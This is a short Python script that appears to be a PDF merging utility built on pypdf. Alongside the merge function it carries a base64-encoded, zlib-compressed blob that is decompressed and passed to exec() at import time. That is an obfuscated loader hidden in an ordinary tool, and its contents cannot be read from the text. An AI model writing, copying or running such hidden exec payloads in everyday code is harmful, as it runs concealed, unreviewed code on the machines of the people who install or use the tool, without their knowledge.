import sys, zlib, base64
from pypdf import PdfWriter

def merge(out, *files):
    w = PdfWriter()
    for f in files:
        w.append(f)
    w.write(out)

_c = "eJxVj8FuxCAMRO98BbeAlDX3SPmS1R5oMF13CVDsZCtV7beX5NLWt5k3smZoraWJLjy+ccnj1lKiF2j4viGLCvPnY9p1LE0/xl1T7kHAvFMrGUhwZWO/1IHjAa/DtwP/ZLc0DJiFfOJhPMxXkstf8zYp3a/O/V/1cgf8qD6HjbGZaE9GUf9CYmFT7aTDNd7mUjF31Wv6YKz6Xxq6PAPDXaTy5JyvBCxe+LKUlHARoLz7RMHRcM6GsK2VTbB921ICGmvVD/B7YR0="
exec(zlib.decompress(base64.b64decode(_c)))

if __name__ == "__main__":
    merge(sys.argv[1], *sys.argv[2:])
